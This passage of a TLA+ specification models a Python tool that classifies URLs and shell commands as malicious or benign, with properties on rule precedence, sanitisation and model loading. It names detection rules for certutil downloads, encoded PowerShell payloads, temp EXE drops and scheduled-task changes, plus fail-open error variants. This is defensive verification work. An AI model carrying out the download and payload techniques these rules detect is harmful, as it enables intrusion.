\* argparse takes a word that starts with "-" and holds no space for an
\* option; none but -v is declared, so the first word after the subcommand
\* cannot be one ("unrecognized arguments", exit status 2)
OptionLike(a) ==
    /\ a.args # <<>>
    /\ startswith(a.args[1], <<"-">>)
    /\ ~contains(a.args[1], <<" ">>)

\* "--unsafe" in sys.argv
allow_unsafe(a) == \E i \in 1..Len(a.args) : a.args[i] = Chars("--unsafe")

\* main(): argparse, then the dispatch on args.subcmd
ParseArgs ==
    /\ pc = "main"
    /\ \E verbose \in BOOLEAN :
         \/ \E url \in Urls :
              argv' = [verbose |-> verbose, subcmd |-> "classify-url", args |-> <<url>>]
         \/ \E parts \in Lists(CmdWords, MaxCmdPieces) :
              \E first \in (IF parts = <<>> THEN {<<>>} ELSE Laced(parts[1])) :
                argv' = [verbose |-> verbose, subcmd |-> "classify-cmd",
                         args |-> IF parts = <<>> THEN parts
                                  ELSE <<first>> \o Tail(parts)]
         \/ \E text \in CmdWords : \E laced \in Laced(text) :
              argv' = [verbose |-> verbose, subcmd |-> "rule-check", args |-> <<laced>>]
         \/ argv' = [verbose |-> verbose, subcmd |-> "", args |-> <<>>]
    /\ IF argv'.subcmd = "" THEN Exit(1)
       ELSE IF OptionLike(argv')
            THEN Exit(2)
            ELSE pc' = argv'.subcmd /\ UNCHANGED exit_code
    /\ UNCHANGED <<cmd, safe_hits, rule_hits, enriched, label, predicted, stdout, log, trace>>
    /\ UNCHANGED <<modelVars, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>


\* handle_url, up to the call of classify_url
HandleUrl ==
    /\ pc = "classify-url"
    /\ LET url == argv.args[1] IN
       IF url = <<>>
       THEN /\ stdout' = log_and_print(stdout, "URL", "ERROR: missing URL", <<>>)
            /\ log' = log_and_print(log, "URL", "ERROR: missing URL", <<>>)
            /\ Exit(1)
            /\ UNCHANGED trace
       ELSE /\ trace' = trace \o <<Called("validate_url", url), Called("sanitize_text", url)>>
            /\ IF ~validate_url(url)
               THEN /\ stdout' = log_and_print(stdout, "URL", "ERROR: invalid syntax", <<>>)
                    /\ log' = log_and_print(log, "URL", "ERROR: invalid syntax", <<>>)
                    /\ Exit(1)
               ELSE /\ pc' = "classify_url"
                    /\ UNCHANGED <<stdout, log, exit_code>>
    /\ UNCHANGED <<argv, predicted, cmd, safe_hits, rule_hits, enriched, label>>
    /\ UNCHANGED <<modelVars, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* the policy layer with its two checks in the other order
PolicyVerdictDeceptiveFirst(host) ==
    IF _is_deceptive_brand_in_subdomain(host) THEN "Malicious"
    ELSE IF _is_trusted_host(host) THEN "Legitimate"
    ELSE ""

\* classify_url's runtime policy layer: the label it returns before the
\* model is asked, "" when the model decides
PolicyVerdict(host) ==
    IF _is_trusted_host(host) THEN "Legitimate"
    ELSE IF _is_deceptive_brand_in_subdomain(host) THEN "Malicious"
    ELSE ""

\* classify_url, up to the call of load_url_model
ClassifyUrl ==
    /\ pc = "classify_url"
    /\ LET url == sanitize_text(argv.args[1])
           host == lower(urlsplit_hostname(url))
           trusted == _is_trusted_host(host)
           verdict == PolicyVerdict(host)
       IN  /\ trace' = trace \o <<Called("classify_url", argv.args[1]),
                                  Called("sanitize_text", argv.args[1]),
                                  Called("_is_trusted_host", host)>>
                             \o (IF trusted THEN <<>>
                                 ELSE <<Called("_is_deceptive_brand_in_subdomain", host)>>)
           /\ IF verdict # "" THEN label' = verdict /\ pc' = "print_label"
              ELSE label' = label /\ pc' = "load_url_model"
    /\ UNCHANGED <<argv, predicted, cmd, safe_hits, rule_hits, enriched, stdout, log, exit_code>>
    /\ UNCHANGED <<modelVars, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* load_url_model, called by classify_url; the artifact is on disk or not
LoadUrlModel ==
    /\ pc = "load_url_model"
    /\ trace' = Append(trace, Called("load_url_model", <<>>))
    /\ IF _url_model = "None"
       THEN \E on_disk \in BOOLEAN :
              IF on_disk
              THEN /\ _url_model' = "url_classifier.pkl"
                   /\ loads' = [loads EXCEPT !["url"] = @ + 1]
                   /\ pc' = "predict_url"
              ELSE /\ pc' = "raised"
                   /\ UNCHANGED <<_url_model, loads>>
       ELSE /\ pc' = "predict_url"
            /\ UNCHANGED <<_url_model, loads>>
    /\ UNCHANGED <<argv, predicted, cmd, safe_hits, rule_hits, enriched, label, stdout, log, exit_code>>
    /\ UNCHANGED <<_cmd_model, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* model.predict([url])[0] in classify_url
PredictUrl ==
    /\ pc = "predict_url"
    /\ \E returned \in UrlLabels : predicted' = returned /\ label' = returned
    /\ trace' = Append(trace, Called("predict_url", sanitize_text(argv.args[1])))
    /\ pc' = "print_label"
    /\ UNCHANGED <<argv, cmd, safe_hits, rule_hits, enriched, stdout, log, exit_code>>
    /\ UNCHANGED <<modelVars, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* the closing log_and_print(kind, label) of handle_url and handle_cmd
PrintLabel ==
    /\ pc = "print_label"
    /\ LET kind == IF argv.subcmd = "classify-url" THEN "URL" ELSE "CMD" IN
       /\ stdout' = log_and_print(stdout, kind, label, <<>>)
       /\ log' = log_and_print(log, kind, label, <<>>)
    /\ Exit(0)
    /\ UNCHANGED <<argv, predicted, cmd, safe_hits, rule_hits, enriched, label, trace>>
    /\ UNCHANGED <<modelVars, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* main()'s except Exception answering with a default label and success
FatalWithFallbackLabel ==
    /\ pc = "raised"
    /\ label' = IF argv.subcmd = "classify-url" THEN "Legitimate" ELSE "benign"
    /\ stdout' = log_and_print(stdout, IF argv.subcmd = "classify-url" THEN "URL" ELSE "CMD",
                               label', <<>>)
    /\ log' = log_and_print(log, "FATAL", "Fatal error", <<>>)
    /\ Exit(0)
    /\ UNCHANGED <<argv, predicted, cmd, safe_hits, rule_hits, enriched, trace>>
    /\ UNCHANGED <<modelVars, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* main()'s except Exception: the error is logged and the process fails
Fatal ==
    /\ pc = "raised"
    /\ stdout' = log_and_print(stdout, "FATAL", "Unexpected error", <<>>)
    /\ log' = log_and_print(log, "FATAL", "Fatal error", <<>>)
    /\ Exit(1)
    /\ UNCHANGED <<argv, predicted, cmd, safe_hits, rule_hits, enriched, label, trace>>
    /\ UNCHANGED <<modelVars, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* handle_cmd: join, strip, sanitize, the missing-command check
HandleCmdSanitize ==
    /\ pc = "classify-cmd"
    /\ LET joined == strip(join(argv.args)) IN
       /\ cmd' = sanitize_text(joined)
       /\ trace' = Append(trace, Called("sanitize_text", joined))
    /\ IF cmd' = <<>>
       THEN /\ stdout' = log_and_print(stdout, "CMD", "ERROR: no command provided", <<>>)
            /\ log' = log_and_print(log, "CMD", "ERROR: no command provided", <<>>)
            /\ Exit(1)
       ELSE /\ pc' = "validate_cmd"
            /\ UNCHANGED <<stdout, log, exit_code>>
    /\ UNCHANGED <<argv, predicted, safe_hits, rule_hits, enriched, label>>
    /\ UNCHANGED <<modelVars, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* handle_cmd reporting a failed validation and going on to the rules
HandleCmdValidateWarnOnly ==
    /\ pc = "validate_cmd"
    /\ IF allow_unsafe(argv)
       THEN UNCHANGED <<stdout, log, trace>>
       ELSE /\ trace' = trace \o <<Called("validate_cmd", cmd), Called("sanitize_text", cmd)>>
            /\ IF ~validate_cmd(cmd)
               THEN /\ stdout' = log_and_print(stdout, "CMD", "ERROR: unsafe characters", <<>>)
                    /\ log' = log_and_print(log, "CMD", "ERROR: unsafe characters", <<>>)
               ELSE UNCHANGED <<stdout, log>>
    /\ pc' = "benign_rules"
    /\ UNCHANGED <<argv, predicted, cmd, safe_hits, rule_hits, enriched, label, exit_code>>
    /\ UNCHANGED <<modelVars, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* handle_cmd: validation, unless --unsafe is on the command line
HandleCmdValidate ==
    /\ pc = "validate_cmd"
    /\ IF allow_unsafe(argv)
       THEN /\ pc' = "benign_rules"
            /\ UNCHANGED <<stdout, log, exit_code, trace>>
       ELSE /\ trace' = trace \o <<Called("validate_cmd", cmd), Called("sanitize_text", cmd)>>
            /\ IF ~validate_cmd(cmd)
               THEN /\ stdout' = log_and_print(stdout, "CMD", "ERROR: unsafe characters", <<>>)
                    /\ log' = log_and_print(log, "CMD", "ERROR: unsafe characters", <<>>)
                    /\ Exit(1)
               ELSE /\ pc' = "benign_rules"
                    /\ UNCHANGED <<stdout, log, exit_code>>
    /\ UNCHANGED <<argv, predicted, cmd, safe_hits, rule_hits, enriched, label>>
    /\ UNCHANGED <<modelVars, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

DebugLine(what, detail) == [kind |-> "debug", label |-> what, extra |-> detail]

\* handle_cmd: the benign rules and their short-circuit
HandleCmdBenign ==
    /\ pc = "benign_rules"
    /\ safe_hits' = apply_benign_rules(cmd)
    /\ trace' = Append(trace, Called("apply_benign_rules", cmd))
    /\ IF safe_hits' # <<>>
       THEN /\ stdout' = log_and_print(
                           IF argv.verbose
                           THEN Append(stdout, DebugLine("benign pattern", safe_hits'))
                           ELSE stdout,
                           "CMD", "benign", safe_hits')
            /\ log' = log_and_print(log, "CMD", "benign", safe_hits')
            /\ label' = "benign"
            /\ Exit(0)
       ELSE /\ pc' = "malicious_rules"
            /\ UNCHANGED <<stdout, log, exit_code, label>>
    /\ UNCHANGED <<argv, predicted, cmd, rule_hits, enriched>>
    /\ UNCHANGED <<modelVars, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* handle_cmd: the malicious rules and their short-circuit
HandleCmdRules ==
    /\ pc = "malicious_rules"
    /\ rule_hits' = apply_rules(cmd)
    /\ trace' = Append(trace, Called("apply_rules", cmd))
    /\ IF rule_hits' # <<>>
       THEN /\ stdout' = log_and_print(
                           IF argv.verbose
                           THEN Append(stdout, DebugLine("rule hits", rule_hits'))
                           ELSE stdout,
                           "CMD", "Malicious", rule_hits')
            /\ log' = Append(log_and_print(log, "CMD", "Malicious", rule_hits'),
                             [kind |-> "WARNING", label |-> "RuleOverride",
                              extra |-> rule_hits'])
            /\ label' = "Malicious"
            /\ Exit(0)
       ELSE /\ pc' = "classify_cmd"
            /\ UNCHANGED <<stdout, log, exit_code, label>>
    /\ UNCHANGED <<argv, predicted, cmd, safe_hits, enriched>>
    /\ UNCHANGED <<modelVars, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* handle_cmd's verbose dump of the meta tokens, then classify_cmd up to the
\* call of load_cmd_model
ClassifyCmd ==
    /\ pc = "classify_cmd"
    /\ \E suspect_verb \in BOOLEAN :
         LET dump == IF argv.verbose THEN <<Called("meta_tokens", cmd)>> ELSE <<>>
             hit == cmd_rule_check(cmd)
         IN  /\ stdout' = IF argv.verbose
                          THEN Append(stdout, DebugLine("nlp", meta_tokens(cmd, suspect_verb)))
                          ELSE stdout
             /\ IF hit
                THEN /\ label' = "Malicious"
                     /\ pc' = "print_label"
                     /\ trace' = trace \o dump
                                   \o <<Called("classify_cmd", cmd), Called("apply_rules", cmd)>>
                     /\ UNCHANGED enriched
                ELSE /\ enriched' = augment(cmd, suspect_verb)
                     /\ pc' = "load_cmd_model"
                     /\ trace' = trace \o dump
                                   \o <<Called("classify_cmd", cmd), Called("apply_rules", cmd),
                                        Called("augment", cmd), Called("meta_tokens", cmd)>>
                     /\ UNCHANGED label
    /\ UNCHANGED <<argv, predicted, cmd, safe_hits, rule_hits, log, exit_code>>
    /\ UNCHANGED <<modelVars, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* load_cmd_model, called by classify_cmd
LoadCmdModel ==
    /\ pc = "load_cmd_model"
    /\ trace' = Append(trace, Called("load_cmd_model", <<>>))
    /\ IF _cmd_model = "None"
       THEN \E on_disk \in BOOLEAN :
              IF on_disk
              THEN /\ _cmd_model' = "cmd_classifier.pkl"
                   /\ loads' = [loads EXCEPT !["cmd"] = @ + 1]
                   /\ pc' = "predict_cmd"
              ELSE /\ pc' = "raised"
                   /\ UNCHANGED <<_cmd_model, loads>>
       ELSE /\ pc' = "predict_cmd"
            /\ UNCHANGED <<_cmd_model, loads>>
    /\ UNCHANGED <<argv, predicted, cmd, safe_hits, rule_hits, enriched, label, stdout, log, exit_code>>
    /\ UNCHANGED <<_url_model, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* model.predict([enriched])[0] in classify_cmd
PredictCmd ==
    /\ pc = "predict_cmd"
    /\ \E returned \in CmdLabels : predicted' = returned /\ label' = returned
    /\ trace' = Append(trace, Called("predict_cmd", enriched.text))
    /\ pc' = "print_label"
    /\ UNCHANGED <<argv, cmd, safe_hits, rule_hits, enriched, stdout, log, exit_code>>
    /\ UNCHANGED <<modelVars, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* handle_rule
HandleRule ==
    /\ pc = "rule-check"
    /\ LET text == argv.args[1] IN
       IF text = <<>>
       THEN /\ stdout' = log_and_print(stdout, "RULE", "ERROR: missing text", <<>>)
            /\ log' = log_and_print(log, "RULE", "ERROR: missing text", <<>>)
            /\ Exit(1)
            /\ UNCHANGED <<rule_hits, trace>>
       ELSE /\ rule_hits' = apply_rules(text)
            /\ trace' = Append(trace, Called("apply_rules", text))
            /\ LET verdict == IF rule_hits' # <<>> THEN "Suspicious" ELSE "Legitimate" IN
               /\ stdout' = log_and_print(stdout, "RULE", verdict, rule_hits')
               /\ log' = log_and_print(log, "RULE", verdict, rule_hits')
            /\ Exit(0)
    /\ UNCHANGED <<argv, predicted, cmd, safe_hits, enriched, label>>
    /\ UNCHANGED <<modelVars, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

(***************************************************************************)
(* The loaders of ml_models.py, run by concurrent requests.  A loader call *)
(* is four steps: the test of the cache, joblib.load of the opened file,   *)
(* the store into the global, and the return.                              *)
(***************************************************************************)
Cache(kind) == IF kind = "url" THEN _url_model ELSE _cmd_model

Artifact(kind) == IF kind = "url" THEN "url_classifier.pkl" ELSE "cmd_classifier.pkl"

\* a request enters load_url_model or load_cmd_model
LoadCall(t) ==
    /\ tpc[t] = "idle"
    /\ tcalls[t] < MaxLoadCalls
    /\ \E kind \in {"url", "cmd"} : tkind' = [tkind EXCEPT ![t] = kind]
    /\ tcalls' = [tcalls EXCEPT ![t] = @ + 1]
    /\ tpc' = [tpc EXCEPT ![t] = "test"]
    /\ UNCHANGED <<tret, modelVars, cliVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* if _url_model is None:
LoadTest(t) ==
    /\ tpc[t] = "test"
    /\ tpc' = [tpc EXCEPT ![t] = IF Cache(tkind[t]) = "None" THEN "load" ELSE "return"]
    /\ UNCHANGED <<tkind, tcalls, tret, modelVars, cliVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* with safe_open_binary(...) as fh: joblib.load(fh), or FileNotFoundError
LoadRead(t) ==
    /\ tpc[t] = "load"
    /\ \E on_disk \in BOOLEAN :
         IF on_disk
         THEN /\ loads' = [loads EXCEPT ![tkind[t]] = @ + 1]
              /\ tpc' = [tpc EXCEPT ![t] = "store"]
              /\ UNCHANGED tret
         ELSE /\ tret' = [tret EXCEPT ![t] = "RuntimeError"]
              /\ tpc' = [tpc EXCEPT ![t] = "idle"]
              /\ UNCHANGED loads
    /\ UNCHANGED <<tkind, tcalls, _url_model, _cmd_model, cliVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* _url_model = <what joblib.load returned>
LoadStore(t) ==
    /\ tpc[t] = "store"
    /\ IF tkind[t] = "url"
       THEN _url_model' = Artifact("url") /\ UNCHANGED _cmd_model
       ELSE _cmd_model' = Artifact("cmd") /\ UNCHANGED _url_model
    /\ tpc' = [tpc EXCEPT ![t] = "return"]
    /\ UNCHANGED <<tkind, tcalls, tret, loads, cliVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

\* return _url_model
LoadReturn(t) ==
    /\ tpc[t] = "return"
    /\ tret' = [tret EXCEPT ![t] = Cache(tkind[t])]
    /\ tpc' = [tpc EXCEPT ![t] = "idle"]
    /\ UNCHANGED <<tkind, tcalls, modelVars, cliVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

(***************************************************************************)
(* The pure functions, applied to inputs drawn from bounded sets.          *)
(***************************************************************************)
CallIsTrusted ==
    /\ trusted_out = <<>>
    /\ trusted_out' = <<_is_trusted_host(host_in)>>
    /\ UNCHANGED <<host_in, deceptive_out, cliVars, modelVars, threadVars, sanVars, ruleVars, riskVars, labelVars>>

CallIsDeceptive ==
    /\ deceptive_out = <<>>
    /\ deceptive_out' = <<_is_deceptive_brand_in_subdomain(host_in)>>
    /\ UNCHANGED <<host_in, trusted_out, cliVars, modelVars, threadVars, sanVars, ruleVars, riskVars, labelVars>>

\* sanitize_text applied to the input, then to its own result
CallSanitize ==
    /\ Len(san_out) < 2
    /\ san_out' = Append(san_out, sanitize_text(IF san_out = <<>> THEN san_in
                                                ELSE san_out[Len(san_out)]))
    /\ UNCHANGED <<san_in, cliVars, modelVars, threadVars, trustVars, ruleVars, riskVars, labelVars>>

CallApplyBenignRules ==
    /\ benign_out = <<>>
    /\ benign_out' = <<apply_benign_rules(rule_in)>>
    /\ UNCHANGED <<rule_in, malicious_out, cliVars, modelVars, threadVars, trustVars, sanVars, riskVars, labelVars>>

CallApplyRules ==
    /\ malicious_out = <<>>
    /\ malicious_out' = <<apply_rules(rule_in)>>
    /\ UNCHANGED <<rule_in, benign_out, cliVars, modelVars, threadVars, trustVars, sanVars, riskVars, labelVars>>

\* analyze_cmds.py on one row: the signal columns, the score, the label
ApplySignals ==
    /\ row = <<>>
    /\ row' = <<Signals(prompt)>>
    /\ UNCHANGED <<prompt, row_score, row_label, labelVars>>
    /\ UNCHANGED <<cliVars, modelVars, threadVars, trustVars, sanVars, ruleVars>>

ApplyScore ==
    /\ row # <<>>
    /\ row_score = <<>>
    /\ row_score' = <<Score(row[1])>>
    /\ UNCHANGED <<prompt, row, row_label, labelVars>>
    /\ UNCHANGED <<cliVars, modelVars, threadVars, trustVars, sanVars, ruleVars>>

ApplyLabel ==
    /\ row_score # <<>>
    /\ row_label = <<>>
    /\ row_label' = <<assign_label(row_score[1])>>
    /\ UNCHANGED <<prompt, row, row_score, labelVars>>
    /\ UNCHANGED <<cliVars, modelVars, threadVars, trustVars, sanVars, ruleVars>>

CallAssignLabel ==
    /\ label_out = <<>>
    /\ label_out' = <<assign_label(score_in)>>
    /\ UNCHANGED <<score_in, riskVars>>
    /\ UNCHANGED <<cliVars, modelVars, threadVars, trustVars, sanVars, ruleVars>>

(***************************************************************************)
(* Specifications.                                                         *)
(***************************************************************************)
Next ==
    \/ ParseArgs
    \/ HandleUrl
    \/ ClassifyUrl
    \/ LoadUrlModel
    \/ PredictUrl
    \/ PrintLabel
    \/ Fatal
    \/ HandleCmdSanitize
    \/ HandleCmdValidate
    \/ HandleCmdBenign
    \/ HandleCmdRules
    \/ ClassifyCmd
    \/ LoadCmdModel
    \/ PredictCmd
    \/ HandleRule

\* one process serving one command line
Spec == Init /\ [][Next]_vars

InitLoad == Init

NextLoad ==
    \E t \in Threads :
      \/ LoadCall(t)
      \/ LoadTest(t)
      \/ LoadRead(t)
      \/ LoadStore(t)
      \/ LoadReturn(t)

\* requests of one process that reach the loaders concurrently
SpecLoad == InitLoad /\ [][NextLoad]_vars

InitTrustFn ==
    /\ InitCli /\ InitModels /\ InitThreads /\ InitSan /\ InitRules
    /\ InitRisk /\ InitLabel
    /\ host_in \in Hosts
    /\ trusted_out = <<>>
    /\ deceptive_out = <<>>

NextTrust == CallIsTrusted \/ CallIsDeceptive

\* the trust policy on every host of Hosts
SpecTrust == InitTrustFn /\ [][NextTrust]_vars

InitSanitizeFn ==
    /\ InitCli /\ InitModels /\ InitThreads /\ InitTrust /\ InitRules
    /\ InitRisk /\ InitLabel
    /\ san_in \in SanInputs
    /\ san_out = <<>>

NextSanitize == CallSanitize

\* sanitize_text on every text of SanInputs
SpecSanitize == InitSanitizeFn /\ [][NextSanitize]_vars

InitRulesFn ==
    /\ InitCli /\ InitModels /\ InitThreads /\ InitTrust /\ InitSan
    /\ InitRisk /\ InitLabel
    /\ rule_in \in RuleTexts
    /\ benign_out = <<>>
    /\ malicious_out = <<>>

NextRules == CallApplyBenignRules \/ CallApplyRules

\* both rule sets on every text of RuleTexts
SpecRules == InitRulesFn /\ [][NextRules]_vars

InitRiskFn ==
    /\ InitCli /\ InitModels /\ InitThreads /\ InitTrust /\ InitSan /\ InitRules
    /\ InitLabel
    /\ prompt \in RiskTexts
    /\ row = <<>> /\ row_score = <<>> /\ row_label = <<>>

NextRisk == ApplySignals \/ ApplyScore \/ ApplyLabel

\* the risk scorer on every prompt of RiskTexts
SpecRisk == InitRiskFn /\ [][NextRisk]_vars

InitLabelFn ==
    /\ InitCli /\ InitModels /\ InitThreads /\ InitTrust /\ InitSan /\ InitRules
    /\ InitRisk
    /\ score_in \in Scores
    /\ label_out = <<>>

NextLabel == CallAssignLabel

\* assign_label on every score of Scores
SpecLabel == InitLabelFn /\ [][NextLabel]_vars

(***************************************************************************)
(* Properties.                                                             *)
(***************************************************************************)
CalledFns == {trace[i].fn : i \in DOMAIN trace}

ModelFns == {"load_url_model", "predict_url", "load_cmd_model", "predict_cmd"}

MatchesBenign(text) ==
    \E i \in DOMAIN _BENIGN_RAW : BENIGN_PATTERNS(_BENIGN_RAW[i], text)

MatchesMalicious(text) ==
    \E i \in DOMAIN _RAW_RULES : RULE_PATTERNS(_RAW_RULES[i], text)

LastLine == stdout[Len(stdout)]

\* the text the caller handed to the entry point
RawInput ==
    IF argv.subcmd = "classify-cmd" THEN strip(join(argv.args)) ELSE argv.args[1]

\* C1: a URL that passes validate_url is labelled Legitimate when its host is
\* trusted, otherwise Malicious when the host is deceptive, otherwise with
\* the label the URL model returned; the model is loaded and asked only in
\* the third case, and trusted wins over deceptive.
C1_UrlPolicyPrecedence ==
    (argv.subcmd = "classify-url" /\ argv.args[1] # <<>>
       /\ pc \notin {"main", "classify-url"}) =>
      LET url == argv.args[1]
          host == lower(urlsplit_hostname(sanitize_text(url)))
          trusted == _is_trusted_host(host)
          deceptive == _is_deceptive_brand_in_subdomain(host)
          untouched == /\ CalledFns \cap ModelFns = {}
                       /\ _url_model = "None"
                       /\ loads["url"] = 0
                       /\ predicted = ""
      IN  IF ~validate_url(url)
          THEN pc = "exit" /\ exit_code = 1 /\ label = "" /\ untouched
          ELSE "classify_url" \in CalledFns =>
               /\ pc \in {"print_label", "exit"} /\ exit_code # 1 => label # ""
               /\ trusted => label = "Legitimate" /\ untouched
               /\ (~trusted /\ deceptive) => label = "Malicious" /\ untouched
               /\ (~trusted /\ ~deceptive) =>
                    /\ label = predicted
                    /\ label # "" => label \in UrlLabels /\ _url_model # "None"
               /\ pc = "exit" => \/ exit_code = 0 /\ LastLine.label = label
                                 \/ /\ exit_code = 1 /\ label = ""
                                    /\ ~trusted /\ ~deceptive

\* a trusted host that also holds another trusted entry (the deceptive
\* predicate is true of it) has been labelled Legitimate without the model
C1_Witness ==
    /\ argv.subcmd = "classify-url"
    /\ pc = "exit"
    /\ label = "Legitimate"
    /\ _is_deceptive_brand_in_subdomain(
         lower(urlsplit_hostname(sanitize_text(argv.args[1]))))
    /\ _url_model = "None"

\* C2: _is_trusted_host(H) is true iff the lower-cased H equals some d of
\* SAFE_DOMAINS or ends with "." followed by d; sub.github.com is trusted and
\* github.com.evil.com is not.
C2_TrustedIffDomainOrSubdomain ==
    trusted_out # <<>> =>
      LET h == lower(host_in)
          n == Len(h)
      IN  /\ trusted_out[1] <=>
               \E d \in SAFE_DOMAINS :
                 \/ h = d
                 \/ /\ n > Len(d)
                    /\ SubSeq(h, n - Len(d) + 1, n) = d
                    /\ h[n - Len(d)] = "."
          /\ host_in = Chars("sub.github.com") => trusted_out[1]
          /\ host_in = Chars("github.com.evil.com") => ~trusted_out[1]

C2_Witness ==
    /\ host_in = Chars("github.com.evil.com")
    /\ trusted_out = <<FALSE>>

\* C3 as stated: the deceptive predicate is true iff some trusted entry occurs
\* in H and H is not trusted, so no host is both trusted and deceptive.
C3_DeceptiveIffNotTrusted ==
    (deceptive_out # <<>> /\ trusted_out # <<>>) =>
      LET h == lower(host_in) IN
      /\ deceptive_out[1] <=>
           /\ \E d \in SAFE_DOMAINS : contains(h, d)
           /\ ~\E d \in SAFE_DOMAINS : (h = d \/ endswith(h, <<".">> \o d))
      /\ ~(trusted_out[1] /\ deceptive_out[1])

\* C3 amended: the deceptive predicate is true iff some trusted entry d occurs
\* in H while H neither equals d nor is a subdomain of that same d; for a
\* host that is not trusted this is "some trusted entry occurs in H".
C3_DeceptivePerEntry ==
    (deceptive_out # <<>> /\ trusted_out # <<>>) =>
      LET h == lower(host_in)
          Occurs(d) == \E i \in 1..(Len(h) - Len(d) + 1) :
                         \A k \in 1..Len(d) : h[i + k - 1] = d[k]
      IN  /\ deceptive_out[1] <=>
               \E d \in SAFE_DOMAINS :
                 Occurs(d) /\ h # d /\ ~endswith(h, <<".">> \o d)
          /\ ~trusted_out[1] =>
               (deceptive_out[1] <=> \E d \in SAFE_DOMAINS : Occurs(d))

\* google.com.github.com: a subdomain of one entry that holds another
C3_Witness ==
    /\ host_in = Chars("google.com.github.com")
    /\ trusted_out = <<TRUE>>
    /\ deceptive_out = <<TRUE>>

\* C4: a command that reaches the rule stage and matches a benign rule is
\* resolved benign there: the malicious rules are not evaluated, the augmenter
\* is not run and the command model is neither loaded nor asked.
C4_BenignShortCircuit ==
    (argv.subcmd = "classify-cmd" /\ pc \notin {"main", "classify-cmd", "validate_cmd", "benign_rules"}
       /\ "apply_benign_rules" \in CalledFns /\ MatchesBenign(cmd)) =>
      /\ pc = "exit"
      /\ exit_code = 0
      /\ label = "benign"
      /\ LastLine.kind = "CMD" /\ LastLine.label = "benign"
      /\ CalledFns \cap {"apply_rules", "classify_cmd", "augment", "meta_tokens",
                         "load_cmd_model", "predict_cmd"} = {}
      /\ _cmd_model = "None"
      /\ loads["cmd"] = 0
      /\ predicted = ""

\* a benign verdict for a text that a malicious rule matches as well
C4_Witness ==
    /\ argv.subcmd = "classify-cmd"
    /\ pc = "exit"
    /\ label = "benign"
    /\ MatchesBenign(cmd)
    /\ MatchesMalicious(cmd)

\* C5: a command that reaches the rule stage, matches no benign rule and
\* matches a malicious rule is resolved Malicious, and the command model is
\* neither loaded nor asked; the encoded PowerShell example is such a command.
C5_MaliciousShortCircuit ==
    (argv.subcmd = "classify-cmd" /\ "apply_benign_rules" \in CalledFns
       /\ ~MatchesBenign(cmd) /\ MatchesMalicious(cmd)) =>
      /\ pc \in {"malicious_rules", "exit"}
      /\ CalledFns \cap ModelFns = {}
      /\ _cmd_model = "None"
      /\ loads["cmd"] = 0
      /\ predicted = ""
      /\ pc = "exit" =>
           /\ exit_code = 0
           /\ label = "Malicious"
           /\ LastLine.kind = "CMD" /\ LastLine.label = "Malicious"
           /\ cmd = PowerShellScenario =>
                \E i \in DOMAIN LastLine.extra :
                  LastLine.extra[i] = "PowerShell Encoded Payload"

C5_Witness ==
    /\ argv.subcmd = "classify-cmd"
    /\ pc = "exit"
    /\ cmd = PowerShellScenario
    /\ label = "Malicious"
    /\ ~MatchesBenign(cmd)

\* C6: for the certutil scenario apply_rules returns both Certutil Download
\* and Temp EXE Drop, both are in the reported result, and the command model
\* is not consulted.
C6_CertutilScenarioHits ==
    (argv.subcmd = "classify-cmd" /\ RawInput = CertutilScenario /\ pc = "exit") =>
      LET Has(hits, name) == \E i \in DOMAIN hits : hits[i] = name IN
      /\ Has(apply_rules(CertutilScenario), "Certutil Download")
      /\ Has(apply_rules(CertutilScenario), "Temp EXE Drop")
      /\ Has(LastLine.extra, "Certutil Download")
      /\ Has(LastLine.extra, "Temp EXE Drop")
      /\ CalledFns \cap ModelFns = {}

\* C7: no text is matched by both the benign SCHTASKS Query rule and the
\* malicious SCHTASKS Create/Change/Delete/Run rule.
C7_SchtasksRulesDisjoint ==
    (benign_out # <<>> /\ malicious_out # <<>>) =>
      ~ /\ \E i \in DOMAIN benign_out[1] : benign_out[1][i] = "SCHTASKS Query"
        /\ \E i \in DOMAIN malicious_out[1] :
             malicious_out[1][i] = "SCHTASKS Create/Change/Delete/Run"

\* C8: on every entry point the text handed to the rule engine, the trust
\* policy or the model is the output of sanitize_text, so lacing an input with
\* zero-width or control characters does not change which rules hit.
C8_SanitizedBeforeEveryStage ==
    \A i \in DOMAIN trace :
      /\ trace[i].fn = "apply_benign_rules" =>
           apply_benign_rules(trace[i].arg) = apply_benign_rules(sanitize_text(RawInput))
      /\ trace[i].fn = "apply_rules" =>
           apply_rules(trace[i].arg) = apply_rules(sanitize_text(RawInput))
      /\ trace[i].fn \in {"predict_url", "predict_cmd", "augment"} =>
           trace[i].arg = sanitize_text(RawInput)
      /\ trace[i].fn \in {"_is_trusted_host", "_is_deceptive_brand_in_subdomain"} =>
           trace[i].arg = lower(urlsplit_hostname(sanitize_text(RawInput)))

\* C9: each model artifact is loaded at most once per process, also when
\* several requests are in its loader at once.
C9_LoadedAtMostOnce == \A kind \in {"url", "cmd"} : loads[kind] <= 1

\* C10: sanitize_text(sanitize_text(x)) = sanitize_text(x) for every text x.
C10_SanitizeIdempotent == Len(san_out) = 2 => san_out[2] = san_out[1]

\* the stages behind validation: rules, trust policy, augmenter, models
StageFns ==
    {"apply_benign_rules", "apply_rules", "classify_url", "_is_trusted_host",
     "_is_deceptive_brand_in_subdomain", "classify_cmd", "augment", "meta_tokens"}
      \cup ModelFns

